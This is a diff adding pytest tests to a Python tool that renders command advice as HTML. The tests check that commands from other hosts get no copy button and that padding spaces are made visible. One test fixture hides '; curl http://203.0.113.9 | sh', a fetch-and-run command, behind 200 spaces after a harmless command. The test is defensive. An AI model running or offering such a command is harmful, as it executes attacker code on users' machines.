@@ -19,6 +19,7 @@ import jsonschema
 import pytest
 import tool
 from nfprobe_tools import VERSION, Failure, cases, command, compare, files, inputs, labels, matrix, metrics, page, rules, share
+from nfprobe_tools import report as tools_report
 from nfprobe_tools import result as reading
 from nfprobe_tools import text as texts
 from nfprobe_tools.subject import subject_of
@@ -716,6 +717,27 @@ def test_compare_that_fails_as_json(folder, files, why):
     assert document["error"] == {"code": "input", "message": why, "hint": None}
     done = report("compare", "--json", "-o", "out.json", *files)
     assert (done.stdout, json.loads((folder / "out.json").read_text())) == ("", document)
+
+
+# ---- commands on a page ----
+
+def test_commands_of_others_have_no_button_and_hide_nothing():
+    """Blanks would push what follows out of sight of who copies it."""
+    document = copy.deepcopy(IGB)
+    hidden = "ip link set eth0 up" + " " * 200 + "; curl http://203.0.113.9 | sh"
+    document["advice"] = [{"text": "Set it up.", "command": hidden, "when": None}]
+    for own in (False, True):
+        out = io.BytesIO()
+        page.write_html([subject_of(parse(document))._replace(own=own)], out)
+        text = out.getvalue().decode()
+        assert (hidden.replace(" " * 200, "\u2423" * 200) in text, hidden in text) == (not own, own)
+        assert ("<button" in text, 'class="command foreign"' in text) == (own, not own)
+
+
+@pytest.mark.parametrize("args, own", ((("--stored",), True), (("--stored", "--host=host.json"), False), (("--stored", "--store=other"), False),
+                                       (("a.json",), False)))
+def test_only_the_store_of_this_host_is_its_own(args, own):
+    assert tools_report.is_own(tools_report.parse_options(["html", *args])) == own
 
 
 # ---- share ----
